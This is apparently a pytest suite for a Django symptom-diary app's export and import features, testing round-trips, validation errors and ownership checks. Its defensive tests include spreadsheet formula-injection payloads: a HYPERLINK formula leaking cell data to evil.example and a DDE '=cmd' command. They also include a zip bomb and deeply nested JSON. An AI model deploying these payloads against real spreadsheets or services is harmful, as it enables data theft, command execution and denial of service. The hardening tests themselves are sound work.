import csv
import io
import json
import uuid
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from django.core.management import CommandError, call_command
from rest_framework.test import APIClient

from conftest import make_user
from diary import exporter, importer
from diary.models import CheckIn, DoseChange, Episode, MedicationCourse, Profile

pytestmark = pytest.mark.django_db


@pytest.fixture
def full_diary(alice):
    start = datetime(2026, 9, 1, 2, 30, tzinfo=UTC)
    for night in range(30):
        day = date(2026, 9, 1) + timedelta(days=night)
        if night % 3 == 0:
            Episode.objects.create(
                user=alice,
                started_at=start + timedelta(days=night, minutes=night),
                muscle="calf" if night % 2 else "foot",
                side="left",
                severity=night % 11,
                duration_minutes="2.5",
                context="woke_from_sleep",
                calf_swelling=night == 9,
                notes='said "ouch", twice\nthen slept' if night == 3 else "",
            )
        CheckIn.objects.create(
            user=alice,
            date=day - timedelta(days=1),
            no_cramps=None if night % 7 == 0 else night % 3 != 0,
            exercise_minutes=night * 3,
            fluids_cups="5.5",
            feet_cold=night % 4 == 0,
            bedtime="22:45",
        )
    course = MedicationCourse.objects.create(
        user=alice, name="Bendroflumethiazide", drug_class="thiazide_diuretic", started_on=date(2026, 9, 10)
    )
    DoseChange.objects.create(course=course, changed_on=date(2026, 9, 20), direction="increase", dose="5 mg")
    return alice


def test_csv_export_round_trips_exactly_through_import(full_diary):
    original = exporter.csv_zip(full_diary)
    newcomer = make_user("newcomer@example.org")
    report = importer.import_sources(newcomer, importer.sources_from_uploads([("export.zip", original)]))
    assert report.created == {"medications": 1, "dose_changes": 1, "episodes": 10, "checkins": 30}
    assert exporter.csv_files(newcomer) == exporter.csv_files(full_diary)


def test_json_export_holds_everything_and_imports_back(full_diary, alice_api):
    document = json.loads(alice_api.get("/api/v1/export/").content)
    assert document["format"] == "cramptrack-diary"
    assert (len(document["episodes"]), len(document["checkins"]), len(document["medications"])) == (10, 30, 1)
    assert document["profile"]["timezone"] == "Europe/London"
    newcomer = make_user("newcomer@example.org", zone="UTC")
    client = APIClient()
    client.force_authenticate(newcomer)
    upload = io.BytesIO(json.dumps(document).encode())
    upload.name = "diary.json"
    response = client.post("/api/v1/import/", {"files": [upload]}, format="multipart")
    assert response.status_code == 200, response.data
    again = json.loads(exporter.json_bytes(newcomer))
    for table in ("episodes", "checkins", "medications", "dose_changes"):
        assert again[table] == document[table]
    assert Profile.objects.get(user=newcomer).timezone == "Europe/London"


def test_export_csv_over_the_api_is_a_zip_of_four_tables(full_diary, alice_api):
    response = alice_api.get("/api/v1/export/csv/")
    assert response["Content-Type"] == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(response.content)).namelist()
    assert sorted(names) == ["checkins.csv", "dose_changes.csv", "episodes.csv", "medications.csv"]


def test_export_contains_only_the_owners_rows(full_diary, bob, bob_api):
    Episode.objects.create(user=bob, started_at=datetime(2026, 9, 1, 3, tzinfo=UTC), muscle="toes", side="right")
    document = json.loads(bob_api.get("/api/v1/export/").content)
    assert [row["muscle"] for row in document["episodes"]] == ["toes"]
    assert document["checkins"] == [] and document["medications"] == []


def test_reimporting_the_same_export_changes_nothing(full_diary, tmp_path):
    path = tmp_path / "export.zip"
    path.write_bytes(exporter.csv_zip(full_diary))
    before = exporter.csv_files(full_diary)
    out = io.StringIO()
    call_command("import_diary", "--user", "alice@example.org", str(path), stdout=out)
    assert "episodes: 0 new, 10 already there" in out.getvalue()
    assert "checkins: 0 new, 30 already there" in out.getvalue()
    assert exporter.csv_files(full_diary) == before


SPREADSHEET = """started_at,muscle,side,severity,duration_minutes,context,calf_swelling,notes
2026-10-02 03:15,calf,left,6,2,woke_from_sleep,no,first one
2026-10-04T02:00:00+01:00,foot,right,4,,lying_awake,,
"""


def test_a_spreadsheet_without_ids_imports_in_local_time_and_only_once(alice, tmp_path):
    path = tmp_path / "my cramps.csv"
    path.write_text("\ufeff" + SPREADSHEET)  # Excel's byte-order mark
    for _ in range(2):
        call_command("import_diary", "--user", "alice@example.org", str(path), stdout=io.StringIO())
    rows = list(Episode.objects.filter(user=alice).order_by("started_at"))
    assert len(rows) == 2
    # 03:15 London time (GMT in October? no: BST, UTC+1) is 02:15 UTC.
    assert rows[0].started_at == datetime(2026, 10, 2, 2, 15, tzinfo=UTC)
    assert rows[0].night == date(2026, 10, 1)
    assert (rows[0].severity, rows[0].calf_swelling, rows[1].duration_minutes) == (6, False, None)


BAD_SPREADSHEET = """started_at,muscle,side,severity
2026-10-02 03:15,calf,left,6
2026-10-03 03:15,elbow,left,6
2026-10-04 03:15,calf,left,12
2999-10-04 03:15,calf,left,2
"""


def test_a_bad_file_names_each_bad_line_and_saves_nothing(alice, tmp_path):
    path = tmp_path / "cramps.csv"
    path.write_text(BAD_SPREADSHEET)
    with pytest.raises(CommandError) as failure:
        call_command("import_diary", "--user", "alice@example.org", str(path))
    message = str(failure.value)
    assert "cramps.csv line 3: muscle:" in message and "Allowed: calf" in message
    assert "cramps.csv line 4: severity:" in message
    assert "cramps.csv line 5: started_at:" in message and "future" in message
    assert "line 2" not in message
    assert Episode.objects.count() == 0


# Rows that fill different cells, each refused by the API for one field (and by the import with the same words).
CALF = {"started_at": "2026-10-02T03:15:00+01:00", "muscle": "calf"}
MIXED_BAD_ROWS = [
    (CALF, "side"),
    (CALF | {"side": "left", "severity": 12}, "severity"),
    (CALF | {"side": "left", "timezone": "Mars/Base"}, "timezone"),
    (CALF | {"side": "up", "notes": "ok"}, "side"),
    (CALF | {"side": "left", "notes": "a\u202eb"}, "notes"),
    (CALF | {"side": "both", "duration_minutes": 999}, "duration_minutes"),
]


def test_an_imported_episode_is_refused_with_the_apis_own_message(alice, alice_api):
    columns = ["started_at", "muscle", "side", "severity", "timezone", "notes", "duration_minutes"]
    good = {"started_at": "2026-10-01T03:15:00+01:00", "muscle": "foot", "side": "right", "severity": 3}
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, lineterminator="\n")
    writer.writeheader()
    for row in [good, *(row for row, _ in MIXED_BAD_ROWS), good | {"started_at": "2026-10-03T03:15:00+01:00"}]:
        writer.writerow(row)
    with pytest.raises(importer.ImportFailed) as failure:
        importer.import_sources(alice, importer.sources_from_uploads([("cramps.csv", out.getvalue().encode())]))
    expected = []
    for line, (row, field) in enumerate(MIXED_BAD_ROWS, start=3):
        answer = alice_api.post("/api/v1/episodes/", row, format="json")
        assert answer.status_code == 400 and list(answer.data) == [field], answer.data
        expected.extend(f"cramps.csv line {line}: {field}: {message}" for message in answer.data[field])
    assert failure.value.messages == expected
    assert Episode.objects.count() == 0


def test_one_bad_file_rolls_back_the_good_ones(alice, tmp_path):
    good = tmp_path / "episodes.csv"
    good.write_text(SPREADSHEET)
    bad = tmp_path / "checkins.csv"
    bad.write_text("date,stress\n2026-10-01,4\n2026-10-02,99\n")
    with pytest.raises(CommandError, match="checkins.csv line 3: stress"):
        call_command("import_diary", "--user", "alice@example.org", str(good), str(bad))
    assert Episode.objects.count() == 0 and CheckIn.objects.count() == 0


@pytest.mark.parametrize(
    "content, fragment",
    [
        ("colour,shape\nred,round\n", "line 1: cannot tell what this file holds"),
        ("date,stress,mood\n2026-10-01,3,ok\n", "line 1: unknown column(s) mood"),
        ("date,stress\n2026-10-01,3,extra\n", "line 2: more cells than columns"),
        ("", "line 1: the file is empty"),
    ],
)
def test_malformed_files_are_reported_with_line_numbers(alice, tmp_path, content, fragment):
    path = tmp_path / "f.csv"
    path.write_text(content)
    with pytest.raises(CommandError, match=fragment.replace("(", r"\(").replace(")", r"\)")):
        call_command("import_diary", "--user", "alice@example.org", str(path))


def test_a_spreadsheet_with_old_mac_line_ends_imports(alice, tmp_path):
    path = tmp_path / "f.csv"
    path.write_bytes(b"date,stress\r2026-10-01,3\r2026-10-02,4\r")
    call_command("import_diary", "--user", "alice@example.org", str(path))
    assert sorted(CheckIn.objects.filter(user=alice).values_list("stress", flat=True)) == [3, 4]


def test_an_unreadable_csv_upload_is_a_400_with_its_line(alice_api):
    # A cell over the csv module's field limit (128 KiB) is something it cannot read.
    upload = io.BytesIO(b"date,notes\n2026-10-01,ok\n2026-10-02," + b"x" * 140_000 + b"\n")
    upload.name = "huge.csv"
    response = alice_api.post("/api/v1/import/", {"files": [upload]}, format="multipart")
    assert response.status_code == 400
    assert any(m.startswith("huge.csv line 3: not readable as CSV") for m in response.data["errors"]), response.data
    assert CheckIn.objects.count() == 0


def test_a_checkin_row_with_an_impossible_date_is_a_400_with_its_line(alice_api):
    upload = io.BytesIO(b"date,stress\n2026-10-01,3\n2026-13-45,4\n")
    upload.name = "checkins.csv"
    response = alice_api.post("/api/v1/import/", {"files": [upload]}, format="multipart")
    assert response.status_code == 400
    assert any(m.startswith("checkins.csv line 3: date:") for m in response.data["errors"]), response.data
    assert CheckIn.objects.count() == 0


def test_import_for_an_unknown_user_or_missing_file_is_a_clear_error(alice, tmp_path):
    with pytest.raises(CommandError, match="No account"):
        call_command("import_diary", "--user", "nobody@example.org", "x.csv")
    with pytest.raises(CommandError, match="no such file"):
        call_command("import_diary", "--user", "alice@example.org", str(tmp_path / "missing.csv"))


def test_api_import_reports_bad_rows_with_400(alice_api):
    upload = io.BytesIO(BAD_SPREADSHEET.encode())
    upload.name = "cramps.csv"
    response = alice_api.post("/api/v1/import/", {"files": [upload]}, format="multipart")
    assert response.status_code == 400
    assert any("cramps.csv line 3" in message for message in response.data["errors"])
    assert Episode.objects.count() == 0


def test_an_imported_dose_change_cannot_reach_another_users_course(alice, bob, tmp_path):
    bobs = MedicationCourse.objects.create(user=bob, name="x", drug_class="statin", started_on=date(2026, 1, 1))
    path = tmp_path / "dose_changes.csv"
    path.write_text(f"id,medication,changed_on,direction\n{uuid.uuid4()},{bobs.uuid},2026-02-01,increase\n")
    with pytest.raises(CommandError, match="line 2: medication"):
        call_command("import_diary", "--user", "alice@example.org", str(path))
    assert DoseChange.objects.count() == 0


def test_an_imported_id_that_exists_with_other_content_is_reported(full_diary, tmp_path):
    stored = Episode.objects.filter(user=full_diary).first()
    path = tmp_path / "episodes.csv"
    path.write_text(f"id,started_at,muscle,side\n{stored.uuid},{stored.started_at.isoformat()},toes,{stored.side}\n")
    with pytest.raises(CommandError, match="already in your diary with a different muscle"):
        call_command("import_diary", "--user", "alice@example.org", str(path))


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "- woke twice",
    "'=already quoted",
]


def csv_cells(archive: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        return [
            cell
            for name in files.namelist()
            for row in csv.reader(io.StringIO(files.read(name).decode()))
            for cell in row
        ]


def live_formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_csv_export_carries_no_live_formula_and_round_trips_exactly(alice):
    for number, text in enumerate(FORMULAS):
        Episode.objects.create(
            user=alice, started_at=datetime(2026, 10, 1 + number, 3, tzinfo=UTC), muscle="calf", side="left", notes=text
        )
    MedicationCourse.objects.create(
        user=alice, name="=cmd|' /C calc'!A0", drug_class="statin", started_on=date(2026, 9, 1)
    )
    archive = exporter.csv_zip(alice)
    cells = csv_cells(archive)
    assert not live_formulas(cells)
    assert "'=HYPERLINK" in "".join(cells)
    newcomer = make_user("newcomer@example.org")
    importer.import_sources(newcomer, importer.sources_from_uploads([("export.zip", archive)]))
    assert sorted(Episode.objects.filter(user=newcomer).values_list("notes", flat=True)) == sorted(FORMULAS)
    assert MedicationCourse.objects.get(user=newcomer).name == "=cmd|' /C calc'!A0"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _upload(content: bytes, name: str):
    upload = io.BytesIO(content)
    upload.name = name
    return upload


def test_a_zip_bomb_is_a_413_and_saves_nothing(alice_api, settings):
    # 30 MB of one repeated row deflates to about 30 KB; read in full it would cost the worker its memory.
    row = b"2026-10-01,3\n"
    bomb = _zip({"checkins.csv": b"date,stress\n" + row * (30_000_000 // len(row))})
    assert len(bomb) < 100_000
    response = alice_api.post("/api/v1/import/", {"files": [_upload(bomb, "export.zip")]}, format="multipart")
    assert response.status_code == 413
    assert "unpacks to more than" in response.data["errors"][0]
    assert CheckIn.objects.count() == 0


def test_a_zip_inside_a_zip_is_refused(alice_api):
    inner = _zip({"checkins.csv": b"date,stress\n2026-10-01,3\n"})
    outer = _zip({"checkins.csv": b"date,stress\n2026-10-02,4\n", "more.zip": inner})
    response = alice_api.post("/api/v1/import/", {"files": [_upload(outer, "export.zip")]}, format="multipart")
    assert response.status_code == 400
    assert any("a zip inside a zip" in message for message in response.data["errors"]), response.data
    assert CheckIn.objects.count() == 0


def test_a_deeply_nested_json_import_is_a_400(alice_api):
    deep = b'{"format": "cramptrack-diary", "episodes": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    response = alice_api.post("/api/v1/import/", {"files": [_upload(deep, "export.json")]}, format="multipart")
    assert response.status_code == 400
    assert "nested too deeply" in response.data["errors"][0]
    assert Episode.objects.count() == 0
